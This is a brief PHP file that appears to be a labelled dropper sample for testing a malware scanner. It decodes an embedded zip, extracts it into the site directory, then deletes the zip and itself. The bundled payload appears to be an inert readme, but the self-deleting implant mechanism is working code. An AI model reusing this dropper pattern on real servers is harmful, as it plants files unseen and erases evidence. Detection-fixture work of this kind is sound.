<?php
// Family: dropper/fetch-run
// Style: archive dropper carrying its payload as an embedded zip
// Trait: a base64 zip decoded, written next to the script, extracted into the site, then the dropper deletes itself
$pkg = base64_decode("UEsDBBQAAAAAAMyThl3sQoCKDgEAAA4BAAAPAAAAZGVtby9yZWFkbWUudHh0VGhpcyBhcmNoaXZlIGlzIGFuIGluZXJ0IHRlc3QgZml4dHVyZSBmb3IgbWFpbHdhcmRlbi4gVGhpcyBhcmNoaXZlIGlzIGFuIGluZXJ0IHRlc3QgZml4dHVyZSBmb3IgbWFpbHdhcmRlbi4gVGhpcyBhcmNoaXZlIGlzIGFuIGluZXJ0IHRlc3QgZml4dHVyZSBmb3IgbWFpbHdhcmRlbi4gVGhpcyBhcmNoaXZlIGlzIGFuIGluZXJ0IHRlc3QgZml4dHVyZSBmb3IgbWFpbHdhcmRlbi4gVGhpcyBhcmNoaXZlIGlzIGFuIGluZXJ0IHRlc3QgZml4dHVyZSBmb3IgbWFpbHdhcmRlbi4gUEsBAhQDFAAAAAAAzJOGXexCgIoOAQAADgEAAA8AAAAAAAAAAAAAAIABAAAAAGRlbW8vcmVhZG1lLnR4dFBLBQYAAAAAAQABAD0AAAA7AQAAAAA=");
file_put_contents("pkg.zip", $pkg);
$za = new ZipArchive();
if ($za->open("pkg.zip") === true) {
	$za->extractTo(dirname(__FILE__));
	$za->close();
}
unlink("pkg.zip");
unlink(__FILE__);
